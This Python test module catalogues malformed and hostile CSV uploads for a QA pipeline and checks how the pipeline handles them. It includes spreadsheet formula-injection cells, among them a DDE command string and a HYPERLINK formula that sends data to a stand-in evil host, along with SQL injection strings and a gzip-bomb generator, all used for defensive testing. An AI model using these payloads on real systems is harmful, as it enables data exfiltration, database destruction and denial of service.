"""The bad-input catalogue: each awkward upload and the outcome beam-qa promises for it.

One table drives the unit, bounded-pipeline and streaming tests (and matches the table in
docs/bad-input.md). A case either ends ``done`` with the expected rows, each answered or
carrying a row error, or ``failed`` with a file error of the expected kind.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
import zlib
from collections.abc import Callable

# Rows in the 100,000-row case; the pipeline runs use MAX_ROWS so that it is a cheap file error.
BIG_ROWS = 100_000
MAX_ROWS = 10_000
MEGABYTE = 1_000_000
# The pipeline's default --max_context_chars: the 1 MB cell is over it, the 60,000-character one under.
MAX_CONTEXT_CHARS = 100_000

# What qa_files.error starts with (or contains) for each file error kind.
REASONS = {
    "empty": "file is empty",
    "no_rows": "file has a header but no data rows",
    "missing_columns": "missing column(s)",
    "duplicate_columns": "header names repeated",
    "not_utf8": "file is not valid UTF-8",
    "binary": "file contains a NUL byte",
    "malformed_csv": "CSV syntax error",
    "too_many_rows": f"file has more than {MAX_ROWS} data rows",
    "too_many_columns": "--max_columns",
}


@dataclasses.dataclass(frozen=True)
class Case:
    """One catalogue entry.

    Attributes:
        name: the file is uploaded as ``<name>.csv``.
        build: makes the file's bytes (lazily: some are large).
        kind: the expected file error kind, or "" when the file is answered.
        header: for answered files, the input header as written (the answers CSV repeats it).
        rows: for answered files, each data row's cells (aligned with ``header``) as they must
            come back in PostgreSQL and the answers CSV.
        errors: for answered files, the expected row error per row ("" = answered); a value
            ending in ``…`` is a prefix.
        reason: extra text qa_files.error must contain for a failed file.
    """

    name: str
    build: Callable[[], bytes]
    kind: str = ""
    header: tuple[str, ...] = ()
    rows: tuple[tuple[str, ...], ...] = ()
    errors: tuple[str, ...] = ()
    reason: str = ""

    @property
    def file_name(self) -> str:
        return f"{self.name}.csv"

    def row_error_matches(self, index: int, actual: str | None) -> bool:
        expected = self.errors[index] if self.errors else ""
        actual = actual or ""
        if expected.endswith("…"):
            return actual.startswith(expected[:-1])
        return actual == expected


def _csv(header, rows, lineterminator="\r\n") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


PARIS = "The Eiffel Tower is a wrought-iron lattice tower on the Champ de Mars in Paris, France."
NORMANS = "The Normans gave their name to Normandy, a region in France, in the 10th and 11th centuries."

# -- answered cases -------------------------------------------------------------------------------

_EXTRA_HEADER = ("id", "question", "context", "source", "notes")
_EXTRA_ROWS = (("e1", "Where is the tower?", PARIS, "wiki", "kept"),
               ("e2", "Who were the Normans?", NORMANS, "", "also kept"))

_FIELDS_HEADER = ("question", "context", "tag")
_FIELDS_ROWS = (("Where is the tower?", PARIS, "a"),
                ("Who were the Normans?", NORMANS, "b"),      # written with 2 surplus cells
                ("Short row?", PARIS, ""))                     # written without the tag cell

_QUOTED_HEADER = ("id", "question", "context")
_QUOTED_ROWS = (("q1", "Multi\nline\nquestion?", "Line one of the context.\nLine two, with a comma.\n" + PARIS),
                ("q2", 'She said "where"?', 'CRLF inside\r\na cell, and "quotes", stay ' + NORMANS),
                ("q3", "Trailing newline?\n", "\n" + PARIS + "\n"))

_UNICODE_HEADER = ("id", "question", "context")
_UNICODE_ROWS = (
    ("🙂-1", "Wo ist der Eiffelturm? 🗼", "Der Eiffelturm 🗼 steht in Paris 🇫🇷. Familie: 👩‍👩‍👧‍👦, Daumen 👍🏽."),
    ("中文", "埃菲尔铁塔在哪里？", "埃菲尔铁塔是位于法国巴黎战神广场上的镂空结构铁塔，高三百米。"),
    ("日本", "東京タワーはどこにありますか？", "東京タワーは東京都港区芝公園にある総合電波塔です。"),
    ("한국", "서울은 어디에 있습니까?", "서울은 대한민국의 수도이며 한강 유역에 있습니다."),
    ("mix", "Ελληνικά; عربى؟ e\u0301te\u0301?", "Combining accents e\u0301te\u0301, Greek Αθήνα, Arabic القاهرة, "
     "math 𝔘𝔫𝔦𝔠𝔬𝔡𝔢, and an astral emoji 𝄞 in one context."),
)

_FORMULA_HEADER = ("id", "question", "context", "=cmd|' /C calc'!A0")
_FORMULA_ROWS = (
    ("=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1 is two. " + PARIS, "=SUM(A1:A9)"),
    ("+1", "+What is this?", "+41 plus one. " + PARIS, "+A1"),
    ("-1", "-Where is it?", "-2+3 is one. " + NORMANS, "-A1"),
    ("@1", "@SUM(1,1)?", "@mention and " + PARIS, "@A1"),
    ("\t1", "\t=tab first?", "\t=1+1 tab first. " + NORMANS, "\t@A1"),
    ("plain", "Not a formula = fine?", "A cell with = + - @ inside is harmless. " + PARIS, "ok"),
)

_WS_HEADER = (" ID ", "Question ", " CONTEXT", "")
_WS_ROWS = (("w1", "Where is the tower?", PARIS, ""),)

_TRAILING_HEADER = ("question", "context", "", "")
_TRAILING_ROWS = (("Where is the tower?", PARIS, "", ""),)

_LONG_QUESTION = " ".join(["why"] * 2000) + "?"


def _extra_fields() -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([
        _FIELDS_HEADER, _FIELDS_ROWS[0], (*_FIELDS_ROWS[1][:2], "b", "surplus", "more"), _FIELDS_ROWS[2][:2]])
    return buffer.getvalue().encode()


def context_1mb() -> str:
    """An ASCII context of just over 1 MB (a SQuAD-like paragraph repeated), the answer near the end."""
    base = (NORMANS + " " + PARIS + " ")
    return base * (MEGABYTE // len(base) + 1) + "The answer is at the very end."


def _context_1mb() -> bytes:
    return _csv(["id", "question", "context"], [["big", "Where is the answer?", context_1mb()],
                                                ["small", "Where is the tower?", PARIS]])


def context_60k() -> str:
    """A context of about 60,000 characters (some 60 windows): long, but under the limit."""
    base = (NORMANS + " " + PARIS + " ")
    return base * (60_000 // len(base)) + "The answer is at the very end."


def _context_60k() -> bytes:
    return _csv(["id", "question", "context"], [["long", "Where is the answer?", context_60k()]])


def _wide_header() -> bytes:
    """A 100,000-column header (0.7 MB), question and context among its columns, and one row."""
    names = ["question", "context"] + [f"column_{i}" for i in range(99_998)]
    return (",".join(names) + "\nWhere is the tower?," + PARIS.replace(",", "") + "\n").encode()


def _cells_flood() -> bytes:
    """A valid header, then one row of a million two-character cells (3 MB)."""
    return b"question,context\r\nWhere is the tower?," + b"ab," * 1_000_000 + b"ab\r\n"


def _big_rows() -> bytes:
    rows = ((f"r{i}", f"Question {i}?", f"Context number {i} of a very long file.") for i in range(BIG_ROWS))
    return _csv(["id", "question", "context"], rows, lineterminator="\n")


def _xlsx() -> bytes:
    """A minimal spreadsheet package (a zip file) saved with a .csv name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        # Fixed timestamps: the same bytes every time, so the kept copy can be compared.
        archive.writestr(zipfile.ZipInfo("[Content_Types].xml", (2026, 1, 1, 0, 0, 0)),
                         '<?xml version="1.0"?><Types/>')
        archive.writestr(zipfile.ZipInfo("xl/worksheets/sheet1.xml", (2026, 1, 1, 0, 0, 0)),
                         "<worksheet><sheetData/></worksheet>")
    return buffer.getvalue()


CASES: tuple[Case, ...] = (
    Case("empty", _const(b""), kind="empty"),
    Case("blank_lines_only", _const(b"\r\n  \n,,\n"), kind="empty"),
    Case("header_only", _const(b"id,question,context\r\n"), kind="no_rows"),
    Case("missing_columns", _const(b"id,question,text\r\n1,Where?,Paris\r\n"), kind="missing_columns",
         reason="context"),
    Case("duplicate_header", _const(b"question,context,Question \r\nq,c,q2\r\n"), kind="duplicate_columns",
         reason="question"),
    Case("extra_columns", _const(_csv(_EXTRA_HEADER, _EXTRA_ROWS)), header=_EXTRA_HEADER, rows=_EXTRA_ROWS),
    Case("extra_fields_in_a_row", _extra_fields, header=_FIELDS_HEADER, rows=_FIELDS_ROWS,
         errors=("", "row has 5 fields but the header has 3", "")),
    Case("header_spaces_and_case", _const(_csv(_WS_HEADER, _WS_ROWS)), header=_WS_HEADER, rows=_WS_ROWS),
    Case("trailing_empty_columns", _const(_csv(_TRAILING_HEADER, _TRAILING_ROWS)), header=_TRAILING_HEADER,
         rows=_TRAILING_ROWS),
    Case("bom", _const("\ufeff".encode() + _csv(_EXTRA_HEADER, _EXTRA_ROWS)), header=_EXTRA_HEADER,
         rows=_EXTRA_ROWS),
    Case("crlf", _const(_csv(_EXTRA_HEADER, _EXTRA_ROWS, "\r\n")), header=_EXTRA_HEADER, rows=_EXTRA_ROWS),
    Case("lf", _const(_csv(_EXTRA_HEADER, _EXTRA_ROWS, "\n")), header=_EXTRA_HEADER, rows=_EXTRA_ROWS),
    Case("cr_only", _const(_csv(_EXTRA_HEADER, _EXTRA_ROWS, "\r")), header=_EXTRA_HEADER, rows=_EXTRA_ROWS),
    Case("quoted_newlines", _const(_csv(_QUOTED_HEADER, _QUOTED_ROWS)), header=_QUOTED_HEADER, rows=_QUOTED_ROWS),
    Case("unterminated_quote", _const(b'question,context\r\n"Where is it?,' + PARIS.encode()
                                      + b"\r\nq2,c2\r\n"), kind="malformed_csv", reason="unexpected end of data"),
    Case("empty_cells", _const(_csv(["question", "context"], [["Where?", PARIS], ["", PARIS], ["   ", PARIS],
                                                              ["Where?", ""]])),
         header=("question", "context"), rows=(("Where?", PARIS), ("", PARIS), ("   ", PARIS), ("Where?", "")),
         errors=("", "empty question", "empty question", "empty context")),
    Case("question_longer_than_window", _const(_csv(["question", "context"], [[_LONG_QUESTION, PARIS],
                                                                              ["Where?", PARIS]])),
         header=("question", "context"), rows=((_LONG_QUESTION, PARIS), ("Where?", PARIS)),
         errors=("question too long for max_seq_len…", "")),
    Case("latin1", _const("id,question,context\r\n1,Où est la tour ?,À Paris, café\r\n".encode("latin-1")),
         kind="not_utf8", reason="byte 0xf9"),
    Case("utf16", _const("question,context\r\nWhere?,Paris\r\n".encode("utf-16")), kind="binary"),
    Case("binary_xlsx_renamed", _xlsx, kind="binary"),
    Case("nul_bytes", _const(b"question,context\r\nWhere?,Par\x00is\r\n"), kind="binary", reason="offset 28"),
    Case("context_1mb", _context_1mb, header=("id", "question", "context"),
         rows=(("big", "Where is the answer?", "<context_1mb>"), ("small", "Where is the tower?", PARIS)),
         errors=(f"context has {len(context_1mb())} characters, over the limit of {MAX_CONTEXT_CHARS} "
                 "(--max_context_chars); split it into several rows", "")),
    Case("context_60k", _context_60k, header=("id", "question", "context"),
         rows=(("long", "Where is the answer?", "<context_60k>"),)),
    Case("rows_100k", _big_rows, kind="too_many_rows"),
    Case("header_100k_columns", _wide_header, kind="too_many_columns", reason="the header, at line 1"),
    Case("cells_flood", _cells_flood, kind="too_many_columns", reason="the row at line 2"),
    Case("emoji_cjk", _const(_csv(_UNICODE_HEADER, _UNICODE_ROWS)), header=_UNICODE_HEADER, rows=_UNICODE_ROWS),
    Case("formula_injection", _const(_csv(_FORMULA_HEADER, _FORMULA_ROWS)), header=_FORMULA_HEADER,
         rows=_FORMULA_ROWS),
)

BY_NAME = {case.name: case for case in CASES}


def expected_values(row: tuple[str, ...]) -> tuple[str, ...]:
    """Expands placeholders for cells too large to spell out in the table."""
    placeholders = {"<context_1mb>": context_1mb, "<context_60k>": context_60k}
    return tuple(placeholders[cell]() if cell in placeholders else cell for cell in row)


FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def check_outcome(case: Case, dsn: str, uri: str, generation: int, read: Callable[[str], bytes]) -> None:
    """Asserts that ``case``, uploaded as ``uri``, ended exactly as the catalogue says.

    Args:
        case: the catalogue entry.
        dsn: the run's PostgreSQL database.
        uri: the source file's URI (as stored in qa_files.source_uri).
        generation: the source version.
        read: returns the bytes of an output file (answers CSV or quarantined copy) by URI.
    """
    from beam_qa.sinks.gcs_csv import ANSWER_COLUMNS, neutralise_formula
    from tests.conftest import query

    (status, row_count, error, output_uri), = query(
        dsn, "SELECT status, row_count, error, output_uri FROM qa_files WHERE source_uri = %s "
        "AND source_generation = %s", (uri, generation))
    answers = query(dsn, "SELECT row_index, id, question, context, answer, score, answer_start, answer_end, error "
                    "FROM qa_answers WHERE source_uri = %s AND source_generation = %s ORDER BY row_index",
                    (uri, generation))
    if case.kind:
        assert status == "failed", (status, error)
        assert REASONS[case.kind] in error and case.reason in error, error
        assert answers == []
        assert read(output_uri) == case.build(), "the failed file must be kept byte for byte"
        return

    assert (status, error) == ("done", None)
    expected_rows = [expected_values(row) for row in case.rows]
    assert row_count == len(expected_rows) == len(answers)
    names = [h.strip().lower() for h in case.header]
    q_at, c_at = names.index("question"), names.index("context")
    id_at = names.index("id") if "id" in names else None
    for index, (row, values) in enumerate(zip(answers, expected_rows)):
        row_index, row_id, question, context, answer, score, start, end, row_error = row
        assert row_index == index
        # The text round-trips exactly: PostgreSQL holds the cells as uploaded.
        assert (question, context) == (values[q_at], values[c_at])
        assert row_id == (values[id_at] if id_at is not None else None)
        assert case.row_error_matches(index, row_error), (index, row_error)
        if row_error:
            assert answer is None and score is None
        else:
            assert answer and context[start:end] == answer, (index, start, end, answer)
            assert 0.0 < score <= 1.0

    csv.field_size_limit(max(csv.field_size_limit(), 64 * MEGABYTE))  # the 1 MB cell
    written = list(csv.reader(io.StringIO(read(output_uri).decode("utf-8"), newline="")))
    assert written[0] == [neutralise_formula(h) for h in case.header] + list(ANSWER_COLUMNS)
    assert len(written) == len(expected_rows) + 1
    for cells, values, row in zip(written[1:], expected_rows, answers):
        width = len(values)
        assert cells[:width] == [neutralise_formula(v) for v in values]
        assert cells[width] == neutralise_formula(row[4] or "")
        assert cells[width + 4] == neutralise_formula(row[8] or "")
        if row[4] is not None:
            assert (int(cells[width + 2]), int(cells[width + 3])) == (row[6], row[7])
    # Formula-injection defence: no cell of the answers CSV starts like a formula.
    live = [cell for line in written for cell in line if cell.startswith(FORMULA_PREFIXES)]
    assert live == []


# -- hostile but valid text: SQL metacharacters in every column and in the file name ---------------

SQL_PAYLOADS = (
    "'; DROP TABLE qa_answers; --",
    "Robert'); DROP TABLE qa_files;--",
    "' OR '1'='1",
    '" OR ""="',
    "back\\slash \\' \\\\ \\n \\x27",
    "$$ dollar $$ $tag$ quoted $tag$",
    "%s %(name)s {} {0} %% ? :name",
    "E'\\x41' U&'\\0041' ::text; COMMIT; BEGIN;",
    "/* comment */ -- line comment",
    "\u02bc\u2019\uff07\u2018 unicode quotes \uff1b \u2014 line\u2028separator",
)
# A file name with the same characters (no '/', which would make it a folder).
SQL_FILE_STEM = "o'brien; DROP TABLE qa_answers; -- $$ \\ \" %s"


def sql_metacharacter_case(stem: str = SQL_FILE_STEM) -> Case:
    """A file whose every cell (id, question, context, an extra column) carries SQL metacharacters."""
    header = ("id", "question", "context", "note")
    rows = tuple((p, p + " Where is the tower?", p + " " + PARIS, p) for p in SQL_PAYLOADS)
    return Case(stem, _const(_csv(header, rows)), header=header, rows=rows)


# -- a gzip bomb: stored gzip-encoded (what `gcloud storage cp -Z` writes), it inflates ~1000:1 ----------

def gzip_bomb(inflated_mib: int) -> bytes:
    """A CSV of ``inflated_mib`` MiB (``q,c`` rows), gzip-compressed to about a thousandth of that."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = b"q,c\n" * (1 << 18)  # 1 MiB
    parts = [compressor.compress(b"question,context\n")]
    parts += [compressor.compress(block) for _ in range(inflated_mib)]
    return b"".join(parts) + compressor.flush()
